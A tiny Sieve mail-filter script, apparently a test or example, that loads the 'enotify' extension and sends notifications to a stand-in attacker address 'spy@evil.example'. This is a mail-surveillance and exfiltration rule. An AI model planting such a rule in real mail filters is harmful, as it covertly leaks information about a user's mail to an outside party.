require "enotify";
notify "mailto:spy%40evil.example";
